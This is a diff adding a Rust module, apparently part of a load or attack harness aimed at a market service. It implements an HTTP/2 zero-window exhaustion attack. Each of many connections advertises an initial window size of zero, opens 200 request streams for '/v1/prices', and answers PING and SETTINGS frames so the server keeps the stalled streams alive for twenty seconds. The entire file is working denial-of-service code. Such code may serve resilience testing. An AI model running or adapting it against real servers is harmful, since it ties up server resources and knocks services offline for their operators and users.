@@ -1,0 +1,110 @@
+//! HTTP/2 connections whose window is closed from the first byte on: their sockets always have room, their answers never.
+
+use std::io::{self, Read, Write};
+use std::net::TcpStream;
+use std::time::{Duration, Instant};
+
+use anyhow::Result;
+
+use crate::attacker::Attacker;
+use crate::http::left;
+use crate::market::Market;
+
+/// Requests of each connection: what servers allow at the same time.
+const REQUESTS: u32 = 200;
+
+/// How long they stay.
+const STAY: Duration = Duration::from_secs(20);
+
+const PREFACE: &str = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+
+/// Kinds of frames, and flags (RFC 9113, 6).
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const GOAWAY: u8 = 7;
+const ACK: u8 = 1;
+const END_STREAM_AND_HEADERS: u8 = 0x5;
+
+/// `SETTINGS_INITIAL_WINDOW_SIZE = 0`: a stream may not be sent a single byte.
+const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
+
+/// The longest frame that is read: the most that is allowed unless one says otherwise.
+const LONGEST: usize = 16_384;
+
+/// What came of the requests of a connection.
+#[derive(Default)]
+struct Seen {
+    answered: usize,
+    refused: usize,
+    ended: bool,
+}
+
+/// Asks for the whole market on each stream, and answers what keeps a connection alive.
+pub(super) fn windows(attacker: &Attacker<'_>, _: &Market, size: usize) -> Result<String> {
+    let end = Instant::now() + STAY;
+    let sockets = attacker.crowd(size, |_| PREFACE.to_owned());
+    let seen: Vec<Seen> = std::thread::scope(|scope| {
+        let hold = |socket| scope.spawn(move || hold(socket, end));
+        let holding: Vec<_> = sockets.into_iter().map(hold).collect();
+        holding.into_iter().filter_map(|thread| thread.join().ok()).collect()
+    });
+    let sum = |of: fn(&Seen) -> usize| seen.iter().map(of).sum::<usize>();
+    let (answered, refused) = (sum(|seen| seen.answered), sum(|seen| seen.refused));
+    let ended = sum(|seen| usize::from(seen.ended));
+    Ok(format!("{answered} answered, {refused} refused or cut, {ended} connections ended"))
+}
+
+/// One connection, until `end` or until the server ends it.
+fn hold(mut socket: TcpStream, end: Instant) -> Seen {
+    let mut seen = Seen::default();
+    // However it fails: it is over.
+    let outcome = converse(&mut socket, end, &mut seen);
+    seen.ended = outcome
+        .is_err_and(|error| !matches!(error.kind(), io::ErrorKind::TimedOut | io::ErrorKind::WouldBlock));
+    seen
+}
+
+fn converse(socket: &mut TcpStream, end: Instant, seen: &mut Seen) -> io::Result<()> {
+    let mut requests = frame(SETTINGS, 0, 0, &NO_WINDOW);
+    for number in 0..REQUESTS {
+        requests.extend(frame(HEADERS, END_STREAM_AND_HEADERS, 2 * number + 1, &fields()));
+    }
+    socket.write_all(&requests)?;
+    loop {
+        socket.set_read_timeout(Some(left(end)?))?;
+        let mut head = [0; 9];
+        socket.read_exact(&mut head)?;
+        let [a, b, c, kind, flags, ..] = head;
+        let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
+        if payload.len() > LONGEST {
+            return Err(io::ErrorKind::InvalidData.into());
+        }
+        socket.read_exact(&mut payload)?;
+        match kind {
+            PING if flags & ACK == 0 => socket.write_all(&frame(PING, ACK, 0, &payload))?,
+            SETTINGS if flags & ACK == 0 => socket.write_all(&frame(SETTINGS, ACK, 0, &[]))?,
+            HEADERS => seen.answered += 1,
+            RST_STREAM => seen.refused += 1,
+            GOAWAY => return Err(io::ErrorKind::ConnectionAborted.into()),
+            _ => {}
+        }
+    }
+}
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
+    let mut frame = vec![a, b, c, kind, flags];
+    frame.extend(stream.to_be_bytes());
+    frame.extend(payload);
+    frame
+}
+
+/// `GET http://x/v1/prices`: names by their places in the static table, values as they are (RFC 7541, 6).
+fn fields() -> Vec<u8> {
+    const GET: u8 = 0x80 | 2;
+    const HTTP: u8 = 0x80 | 6;
+    let literal = |name: u8, value: &str| [&[name, value.len() as u8], value.as_bytes()].concat();
+    [vec![GET, HTTP], literal(1, "x"), literal(4, "/v1/prices")].concat()
+}
